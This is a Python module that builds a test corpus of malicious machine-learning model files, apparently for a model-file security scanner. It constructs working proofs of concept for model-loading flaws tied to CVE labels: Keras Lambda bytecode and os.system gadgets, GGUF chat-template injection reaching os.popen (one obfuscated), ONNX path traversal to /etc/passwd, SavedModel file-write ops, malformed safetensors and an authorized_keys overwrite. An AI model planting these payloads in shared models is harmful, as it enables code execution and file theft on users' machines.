"""Malicious non-pickle samples: Keras, HDF5, GGUF templates, ONNX, SavedModel, safetensors, HF folders."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import zipfile
from pathlib import Path
from typing import Any

from corpus_pickles import write
from corpus_registry import malicious
from picklekit import PAYLOAD_CMD

# --- Keras --------------------------------------------------------------------------------------

KERAS_METADATA = {"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}
_DTYPE = {
    "module": "keras",
    "class_name": "DTypePolicy",
    "config": {"name": "float32"},
    "registered_name": None,
}


def keras_layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    """One serialised Keras 3 layer."""
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def dense(name: str, units: int, activation: object = "relu") -> dict[str, Any]:
    """A plain Dense layer config."""
    init = {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}}
    return keras_layer(
        "Dense",
        {
            "name": name,
            "trainable": True,
            "dtype": _DTYPE,
            "units": units,
            "activation": activation,
            "use_bias": True,
            "kernel_initializer": {**init, "registered_name": None},
            "bias_initializer": {
                "module": "keras.initializers",
                "class_name": "Zeros",
                "config": {},
                "registered_name": None,
            },
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    )


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 Sequential model config with an input layer of width 4."""
    first = keras_layer(
        "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"}
    )
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": _DTYPE, "layers": [first, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "compile_config": None,
    }


def keras_zip(config: dict[str, Any], weights: bytes | None = None) -> bytes:
    """A ``.keras`` archive: config.json, metadata.json and optionally model.weights.h5."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps(KERAS_METADATA))
        zf.writestr("config.json", json.dumps(config))
        if weights is not None:
            zf.writestr("model.weights.h5", weights)
    return buf.getvalue()


def lambda_code() -> str:
    """base64 of marshalled bytecode for ``lambda x: (os.system(cmd), x)[1]`` (compiled, never run)."""
    src = f"lambda x: (__import__('os').system({PAYLOAD_CMD!r}), x)[1]"
    code = next(c for c in compile(src, "<bastion-test>", "eval").co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def lambda_layer() -> dict[str, Any]:
    """A Keras 3 Lambda layer whose function is marshalled bytecode."""
    function = {
        "class_name": "__lambda__",
        "config": {"code": lambda_code(), "defaults": None, "closure": None},
    }
    return keras_layer("Lambda", {"name": "lambda", "function": function, "arguments": {}})


@malicious("keras-lambda", "keras", "CVE-2024-3660", ".keras whose Lambda layer carries marshalled bytecode")
def _keras_lambda(out: Path) -> Path:
    return write(out, "lambda.keras", keras_zip(sequential(lambda_layer())))


@malicious("keras-custom-module", "keras", "CVE-2025-1550", ".keras config naming module os, function system")
def _keras_module(out: Path) -> Path:
    activation = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    return write(out, "custom_module.keras", keras_zip(sequential(dense("dense", 2, activation))))


@malicious(
    "keras-enable-unsafe",
    "keras",
    "CVE-2025-9906",
    "config calls enable_unsafe_deserialization before a Lambda",
)
def _keras_unsafe(out: Path) -> Path:
    toggle = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "enable_unsafe_deserialization",
    }
    config = sequential(dense("dense", 2, toggle), lambda_layer())
    return write(out, "enable_unsafe.keras", keras_zip(config))


@malicious(
    "keras-tfsmlayer", "keras", "CVE-2026-1462", "TFSMLayer loading an attacker-chosen external SavedModel"
)
def _keras_tfsm(out: Path) -> Path:
    layer = keras_layer(
        "TFSMLayer",
        {
            "name": "tfsm",
            "filepath": "/tmp/attacker_savedmodel",
            "call_endpoint": "serving_default",
            "trainable": False,
        },
    )
    return write(out, "tfsmlayer.keras", keras_zip(sequential(layer)))


@malicious("h5-lambda", "keras-h5", "CVE-2025-9905", "legacy Keras .h5 whose model_config has a Lambda layer")
def _h5_lambda(out: Path) -> Path:
    import h5py

    config = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "function": [lambda_code(), None, None],
                        "function_type": "lambda",
                        "output_shape": None,
                        "arguments": {},
                    },
                }
            ],
        },
    }
    path = out / "lambda.h5"
    with h5py.File(path, "w") as fh:
        fh.attrs["keras_version"] = "2.15.0"
        fh.attrs["backend"] = "tensorflow"
        fh.attrs["model_config"] = json.dumps(config)
        fh.create_group("model_weights")
    return path


# --- GGUF ---------------------------------------------------------------------------------------


def gguf_file(path: Path, template: str) -> Path:
    """A small valid GGUF file with ``template`` as tokenizer.chat_template and one tensor."""
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(path, "llama")
    writer.add_name("bastion-test")
    writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


SSTI_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('" + PAYLOAD_CMD + "').read() }}"
    "{% endif %}{% endfor %}{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

SSTI_OBFUSCATED = (
    "{% set u = '_' ~ '_' %}{% set g = cycler|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u) %}"
    "{% set b = g|attr('\\x5f\\x5fgetitem\\x5f\\x5f') %}"
    "{{ (b(u ~ 'builtins' ~ u)|attr('get'))(u ~ 'import' ~ u)('os')|attr('popen')('"
    + PAYLOAD_CMD
    + "') }}{% for message in messages %}{{ message['content'] }}{% endfor %}"
)


@malicious("gguf-ssti", "gguf", "CVE-2024-34359", "chat template walking __subclasses__ to os.popen")
def _gguf_ssti(out: Path) -> Path:
    return gguf_file(out / "ssti.gguf", SSTI_TEMPLATE)


@malicious("gguf-ssti-obfuscated", "gguf", "CVE-2024-34359", "SSTI with |attr and concatenated dunder names")
def _gguf_obf(out: Path) -> Path:
    return gguf_file(out / "ssti_obfuscated.gguf", SSTI_OBFUSCATED)


# --- ONNX ---------------------------------------------------------------------------------------


def onnx_external(path: Path, location: str) -> Path:
    """An ONNX MatMul model whose weight tensor lives in external data at ``location``."""
    import onnx
    from onnx import TensorProto, helper

    weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 2])
    weight.data_location = TensorProto.EXTERNAL
    for key, val in (("location", location), ("offset", "0"), ("length", "32")):
        weight.external_data.add(key=key, value=val)
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = onnx.IR_VERSION_2023_5_5 if hasattr(onnx, "IR_VERSION_2023_5_5") else 9
    path.parent.mkdir(parents=True, exist_ok=True)
    # Serialise directly: onnx.save could try to resolve the hostile external path.
    path.write_bytes(model.SerializeToString())
    return path


@malicious(
    "onnx-external-traversal", "onnx", "CVE-2022-25882", "external_data location ../../../../etc/passwd"
)
def _onnx_traversal(out: Path) -> Path:
    return onnx_external(out / "onnx-traversal" / "model.onnx", "../../../../etc/passwd")


@malicious("onnx-external-absolute", "onnx", "CVE-2024-27318", "external_data location /etc/passwd")
def _onnx_absolute(out: Path) -> Path:
    return onnx_external(out / "onnx-absolute" / "model.onnx", "/etc/passwd")


# --- SavedModel (hand-written protobuf; TensorFlow is not needed) --------------------------------


def varint(n: int) -> bytes:
    """Protobuf base-128 varint."""
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def pb_bytes(field: int, data: bytes | str) -> bytes:
    """A length-delimited field."""
    raw = data.encode() if isinstance(data, str) else data
    return varint(field << 3 | 2) + varint(len(raw)) + raw


def pb_int(field: int, n: int) -> bytes:
    """A varint field."""
    return varint(field << 3) + varint(n)


def attr_entry(key: str, attr_value: bytes) -> bytes:
    """One ``map<string, AttrValue>`` entry of NodeDef.attr (field 5)."""
    return pb_bytes(5, pb_bytes(1, key) + pb_bytes(2, attr_value))


def node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: tuple[bytes, ...] = ()) -> bytes:
    """A NodeDef."""
    return pb_bytes(1, name) + pb_bytes(2, op) + b"".join(pb_bytes(3, i) for i in inputs) + b"".join(attrs)


DT_FLOAT, DT_STRING = 1, 7


def string_const(name: str, text: str) -> bytes:
    """A Const node holding a scalar string tensor."""
    tensor = pb_int(1, DT_STRING) + pb_bytes(2, b"") + pb_bytes(8, text)
    return node(
        name,
        "Const",
        attrs=(attr_entry("dtype", pb_int(6, DT_STRING)), attr_entry("value", pb_bytes(8, tensor))),
    )


def saved_model(graph_nodes: list[bytes], functions: tuple[bytes, ...] = ()) -> bytes:
    """SavedModel{schema 1, MetaGraphDef{tags ["serve"], GraphDef{nodes, library, versions}}}."""
    library = b"".join(pb_bytes(1, f) for f in functions)
    graph = b"".join(pb_bytes(1, n) for n in graph_nodes)
    if functions:
        graph += pb_bytes(2, library)
    graph += pb_bytes(4, pb_int(1, 1286) + pb_int(2, 12))
    meta_info = pb_bytes(4, "serve") + pb_bytes(5, "2.15.0")
    meta_graph = pb_bytes(1, meta_info) + pb_bytes(2, graph)
    return pb_int(1, 1) + pb_bytes(2, meta_graph)


def function_def(name: str, body: list[bytes]) -> bytes:
    """A FunctionDef with an OpDef signature and ``body`` node_defs."""
    return pb_bytes(1, pb_bytes(1, name)) + b"".join(pb_bytes(3, n) for n in body)


def write_savedmodel(out: Path, folder: str, data: bytes) -> Path:
    """Write ``folder/saved_model.pb`` plus an empty variables/ dir; return the folder."""
    root = out / folder
    (root / "variables").mkdir(parents=True, exist_ok=True)
    (root / "saved_model.pb").write_bytes(data)
    return root


def _write_file_nodes(prefix: str = "") -> list[bytes]:
    return [
        string_const(prefix + "filename", "/tmp/bastion-test.txt"),
        string_const(prefix + "contents", "bastion-test"),
        node(prefix + "write", "WriteFile", (prefix + "filename", prefix + "contents")),
    ]


@malicious("savedmodel-writefile", "savedmodel", "TFLOW-MALOPS", "top-level WriteFile op in graph_def")
def _sm_write(out: Path) -> Path:
    return write_savedmodel(out, "savedmodel-writefile", saved_model(_write_file_nodes()))


@malicious(
    "savedmodel-function-library",
    "savedmodel",
    "HF PoC 2026",
    "ReadFile+WriteFile hidden in a function library",
)
def _sm_library(out: Path) -> Path:
    body = [
        string_const("path", "/etc/hostname"),
        node("read", "ReadFile", ("path",)),
        *_write_file_nodes("f_"),
    ]
    func_attr = attr_entry("f", pb_bytes(10, pb_bytes(1, "__inference_serve_42")))
    call = node("StatefulPartitionedCall", "StatefulPartitionedCall", attrs=(func_attr,))
    data = saved_model([call], (function_def("__inference_serve_42", body),))
    return write_savedmodel(out, "savedmodel-library", data)


@malicious("savedmodel-pyfunc", "savedmodel", "TFLOW-MALOPS", "PyFunc op (runs a registered Python function)")
def _sm_pyfunc(out: Path) -> Path:
    pyfunc = node("pyfunc", "PyFunc", attrs=(attr_entry("token", pb_bytes(2, "pyfunc_0")),))
    return write_savedmodel(out, "savedmodel-pyfunc", saved_model([pyfunc]))


# --- safetensors --------------------------------------------------------------------------------


def safetensors_raw(header: dict[str, Any], data: bytes, *, length: int | None = None) -> bytes:
    """A safetensors file from a header dict; ``length`` overrides the declared header length."""
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text) if length is None else length) + text + data


@malicious(
    "safetensors-header-overflow", "safetensors", "safetensors spec", "header length far past the file end"
)
def _st_overflow(out: Path) -> Path:
    header = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    return write(out, "overflow.safetensors", safetensors_raw(header, bytes(4), length=(1 << 63) + 17))


@malicious("safetensors-overlap", "safetensors", "safetensors spec", "two tensors whose byte ranges overlap")
def _st_overlap(out: Path) -> Path:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    return write(out, "overlap.safetensors", safetensors_raw(header, bytes(24)))


# --- Hugging Face folder ------------------------------------------------------------------------


@malicious("hf-auto-map", "hf-folder", "trust_remote_code", "config.json auto_map pointing at bundled Python")
def _hf(out: Path) -> Path:
    from corpus_benign import safetensors_bytes

    root = out / "hf-auto-map"
    root.mkdir(parents=True, exist_ok=True)
    config = {
        "architectures": ["EvilModel"],
        "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel"},
        "model_type": "evil",
        "hidden_size": 4,
    }
    (root / "config.json").write_text(json.dumps(config, indent=2))
    (root / "modeling_evil.py").write_text(
        f"import os\n\nos.system({PAYLOAD_CMD!r})\n\n\nclass EvilModel:\n    pass\n"
    )
    (root / "model.safetensors").write_bytes(safetensors_bytes())
    return root


@malicious(
    "keras-get-file", "keras", "CVE-2025-8747", "config invokes keras.utils.get_file to write a chosen path"
)
def _keras_get_file(out: Path) -> Path:
    gadget = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {
            "fname": "authorized_keys",
            "origin": "http://127.0.0.1:9/bastion-test",
            "cache_dir": "/root/.ssh",
            "cache_subdir": ".",
        },
        "registered_name": "get_file",
    }
    return write(out, "get_file.keras", keras_zip(sequential(gadget)))


@malicious("gguf-nested-arrays", "gguf", "gguf-py DoS (2026)", "metadata ARRAY nested 20000 levels deep")
def _gguf_nested(out: Path) -> Path:
    def kv(key: str, body: bytes) -> bytes:
        return struct.pack("<Q", len(key)) + key.encode() + body

    arch = kv("general.architecture", struct.pack("<IQ", 8, 5) + b"llama")  # type 8: string
    depth = 20000
    nested = (
        struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * (depth - 1) + struct.pack("<IQ", 0, 1) + b"\x00"
    )
    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + arch + kv("general.nested", nested)
    return write(out, "nested_arrays.gguf", data)


@malicious(
    "onnx-external-normalised", "onnx", "CVE-2024-5187", "external_data location data/../../../etc/passwd"
)
def _onnx_norm(out: Path) -> Path:
    return onnx_external(out / "onnx-normalised" / "model.onnx", "data/../../../../etc/passwd")


@malicious(
    "onnx-external-symlink", "onnx", "CVE-2026-27489", "in-folder location whose parent dir is a symlink"
)
def _onnx_symlink(out: Path) -> Path:
    path = onnx_external(out / "onnx-symlink" / "model.onnx", "data/passwd")
    (path.parent / "data").symlink_to("/etc", target_is_directory=True)
    return path


@malicious(
    "onnx-external-hardlink", "onnx", "CVE-2026-34446", "external data file hard-linked to a file outside"
)
def _onnx_hardlink(out: Path) -> Path:
    secret = out / "onnx-hardlink-secret.txt"
    secret.write_bytes(b"bastion-test secret " * 4)
    path = onnx_external(out / "onnx-hardlink" / "model.onnx", "weights.bin")
    (path.parent / "weights.bin").hardlink_to(secret)
    return path


@malicious(
    "savedmodel-datasetfromgraph",
    "savedmodel",
    "HF PoC 2026",
    "WriteFile in a GraphDef fed to DatasetFromGraph",
)
def _sm_dataset(out: Path) -> Path:
    inner = b"".join(pb_bytes(1, n) for n in _write_file_nodes())
    tensor = pb_int(1, DT_STRING) + pb_bytes(2, b"") + pb_bytes(8, inner)
    const = node(
        "graph_def",
        "Const",
        attrs=(attr_entry("dtype", pb_int(6, DT_STRING)), attr_entry("value", pb_bytes(8, tensor))),
    )
    dataset = node("dataset", "DatasetFromGraph", ("graph_def",))
    return write_savedmodel(out, "savedmodel-datasetfromgraph", saved_model([const, dataset]))
